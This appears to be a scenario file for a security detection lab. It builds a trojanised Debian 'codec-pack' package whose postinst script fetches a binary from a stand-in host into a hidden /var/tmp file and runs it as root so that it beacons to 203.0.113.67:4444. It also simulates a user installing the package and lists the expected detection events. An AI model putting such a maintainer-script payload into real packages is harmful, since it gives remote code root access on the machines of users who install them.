# A package from a stranger: its maintainer script runs as root.
title="Downloaded package, its maintainer script fetches a program and starts it"
what="ops downloads codec-pack.deb with Firefox from a file sharing site and installs it with sudo dpkg -i. Its postinst fetches a program from 203.0.113.66 into /var/tmp and starts it as root; the program is no part of the package."
host=ws3.example.org user=ops daemons="cron sshd"

setup() {
  echo 'ops ALL=(root) NOPASSWD: /usr/bin/dpkg' > /etc/sudoers.d/ops; chmod 440 /etc/sudoers.d/ops
  private_copy /var/lib/dpkg
  local package="$base/out/codec"
  mkdir -p "$package/DEBIAN" "$package/usr/share/doc/codec-pack"; echo none > "$package/usr/share/doc/codec-pack/README"
  printf 'Package: codec-pack\nVersion: 9.1\nArchitecture: all\nMaintainer: Codecs <codecs@example.net>\nDescription: codecs\n' > "$package/DEBIAN/control"
  printf '#!/bin/sh\nwget -q -O /var/tmp/.cdc http://drop.example.net/cdc\nchmod +x /var/tmp/.cdc\n/var/tmp/.cdc 203.0.113.67 4444 >/dev/null\nexit 0\n' > "$package/DEBIAN/postinst"; chmod 755 "$package/DEBIAN/postinst"
  dpkg-deb --root-owner-group -b "$package" "$base/out/www/codec-pack.deb" >/dev/null
  cc -O1 -o "$base/out/www/cdc" "$lab/lib/stand-ins/beacon.c"
}
act() {
  display_up
  small_talk 2
  firefox_save ops http://files.example.net/codec-pack.deb codec-pack.deb
  sleep 2
  ssh_as ops <<'L'
sudo dpkg -i Downloads/codec-pack.deb
L
}
truth() {
  file_step save 'firefox-esr rename.*/home/ops/Downloads/codec-pack.deb' 'the browser saves the package'
  exec_step install 'dpkg -i Downloads/codec-pack.deb' 'it is installed'
  exec_step postinst 'codec-pack.postinst configure' 'its maintainer script runs'
  exec_step execute '/var/tmp/.cdc 203.0.113.67' 'and starts what it fetched'
  net_step beacon '203.0.113.67:4444' 'which calls out'
}
